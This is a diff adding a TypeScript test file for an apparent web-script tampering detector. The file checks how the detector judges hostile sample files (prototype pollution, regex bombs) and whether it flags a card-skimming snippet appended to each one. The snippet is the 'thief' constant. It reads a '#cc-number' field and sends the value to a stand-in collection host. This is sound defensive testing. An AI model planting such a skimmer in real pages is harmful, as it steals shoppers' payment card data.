@@ -1,0 +1,47 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { changeVerdicts, compareScripts } from '@tillwatch/core/changes'
+import { judgeScript } from '@tillwatch/core/detection'
+import { hostileFiles } from '@tillwatch/testbed/hostile-files'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { judgeFiles } from '../../src/inspect/judge-files.ts'
+
+const folder = mkdtempSync(join(tmpdir(), 'tillwatch-hostile-'))
+const names = Object.keys(hostileFiles)
+const at = (name: string) => join(folder, name)
+const textOf = (name: string) => hostileFiles[name]!().toString('utf8')
+const thief = `\n;document.querySelector('#cc-number').onchange = function () { new Image().src = 'https://collect.stranger-shop.example/?d=' + this.value }\n`
+/** Longer ones say nothing else here, and take long. */
+const comparedMax = 500_000
+
+beforeAll(() => {
+  for (const name of names) writeFileSync(at(name), hostileFiles[name]!())
+})
+afterAll(() => rmSync(folder, { recursive: true, force: true }))
+
+describe('files that were made to crash or stall their reader', () => {
+  it('are each judged in a thread that comes through, and change nothing of it', { timeout: 400_000 }, async () => {
+    const judged = await judgeFiles(names.map(at), { timeoutMs: 120_000, signal: new AbortController().signal, onJudged: () => undefined })
+    expect(judged.filter(({ outcome }) => outcome !== 'judged')).toEqual([])
+    expect(judged.map(({ path }) => path)).toEqual(names.map(at))
+    const verdictOf = (name: string) =>
+      judged.flatMap((file) => (file.path === at(name) && file.outcome === 'judged' ? [file.verdict] : []))[0]
+    for (const thieving of ['prototype-pollution.js', 'prototype-pollution-inside.html', 'regex-bombs-in-flow.js'])
+      expect([thieving, verdictOf(thieving)]).toEqual([thieving, 'malicious'])
+    expect(verdictOf('fooled-reader.js')).toBe('benign')
+  })
+
+  it.each(names.filter((name) => textOf(name).length < comparedMax))(
+    'do not hide a thief that is added to %s',
+    { timeout: 200_000 },
+    (name) => {
+      const text = textOf(name)
+      for (const later of [text + thief, thief + text]) {
+        const { verdict } = compareScripts(text, later, { judge: judgeScript })
+        expect(changeVerdicts.slice(changeVerdicts.indexOf('capability'))).toContain(verdict)
+      }
+      expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false)
+    },
+  )
+})
